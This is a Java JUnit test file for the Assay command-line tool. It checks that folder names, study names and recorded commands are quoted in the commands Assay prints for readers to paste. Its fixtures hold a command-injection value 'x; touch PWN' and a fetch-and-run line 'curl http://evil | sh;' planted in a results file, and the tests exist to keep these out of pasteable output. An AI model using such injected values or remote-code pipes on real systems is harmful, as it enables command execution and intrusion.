package assay.cli;

import static org.assertj.core.api.Assertions.assertThat;

import assay.cli.terminal.Terminal;
import assay.cli.workspace.Workspace;
import assay.json.JsonCodec;
import assay.record.SealedSample;
import assay.record.environment.RunConditions;
import assay.record.io.RunDirectory;
import assay.record.io.SealWriter;
import assay.run.ReportWriter;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.PrintStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Map;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/// Names from outside stay words in the commands that Assay prints: a reader may paste them.
final class PastedCommandsTest {

  private static final String EVIL = "x; touch PWN";

  private static final Pattern COMMAND =
      Pattern.compile(
          "assay (?:judge|report|reproduce|resume|compare|run|describe|validate|new)\\b([^`\\n]*)");

  @TempDir private Path folder;

  private RunDirectory run;

  @BeforeEach
  void judge() throws IOException {
    RunDirectory stored = SealedSample.sealed(Files.createDirectory(folder.resolve("runs")));
    run = new RunDirectory(folder.resolve("runs").resolve(EVIL));
    Files.move(stored.root(), run.root());
    ReportWriter.judge(run);
  }

  static String printed(Path folder, String... command) {
    ByteArrayOutputStream printed = new ByteArrayOutputStream();
    PrintStream all = new PrintStream(printed, true, StandardCharsets.UTF_8);
    Workspace here = new Workspace(folder, folder);
    Assay.commandLine(here, new Terminal(all, all, false), new CommandExecution(here))
        .execute(command);
    return printed.toString(StandardCharsets.UTF_8);
  }

  /// @param named what some command must name
  private static void assertWords(String printed, String named) {
    Matcher commands = COMMAND.matcher(printed);
    boolean found = false;
    while (commands.find()) {
      found |= commands.group(1).contains(named);
      assertThat(commands.group(1).replaceAll("'[^']*'", "")).as(printed).doesNotContain("touch");
    }
    assertThat(found).as(printed).isTrue();
  }

  @Test
  void folderOfARun() throws IOException {
    Files.delete(run.results());
    RunConditions begun = new RunConditions("0a1d", "", "first-look", "here", "boot", Map.of());
    Files.writeString(run.conditions(), JsonCodec.document(begun));
    assertWords(printed(folder, "resume", run.root().toString()), EVIL);
    ReportWriter.judge(run);
    String text = Files.readString(run.results());
    Files.writeString(run.results(), text.replace("\"seed\" : 42", "\"seed\" : \"four\""));
    SealWriter.judged(run);
    assertWords(printed(folder, "compare", run.root().toString(), run.root().toString()), EVIL);
  }

  @Test
  void idOfARun() {
    assertWords(printed(folder, "report", run.root().toString()), EVIL);
  }

  @Test
  void commandThatRepeatsARun() throws IOException {
    String command = "./assay run first-look";
    assertThat(Files.readString(run.results())).contains(command);
    change(command, "./assay run first-look; touch PWN");
    String unused = printed(folder, "report", run.root().toString());
    assertThat(run.summary()).content().contains("./assay run 'first-look;' touch PWN");
    change("./assay run first-look;", "curl http://evil | sh;");
    unused = printed(folder, "report", run.root().toString());
    assertThat(run.summary()).content().doesNotContain("evil");
    assertThat(run.report()).content().doesNotContain("evil");
  }

  private void change(String from, String to) throws IOException {
    String text = Files.readString(run.results());
    assertThat(text).contains(from);
    Files.writeString(run.results(), text.replace(from, to));
    SealWriter.judged(run);
  }

  @Test
  void study() throws IOException {
    Path none = Files.createDirectories(folder.resolve("none"));
    assertWords(printed(folder, "trend", EVIL, "--runs", none.toString()), EVIL);
    Path studies = Files.createDirectories(folder.resolve("studies"));
    Files.writeString(studies.resolve(EVIL + ".yaml"), "study: x\n");
    String printed = printed(folder, "list", "--all");
    assertThat(printed).contains("touch");
    assertWords(printed, EVIL);
  }
}
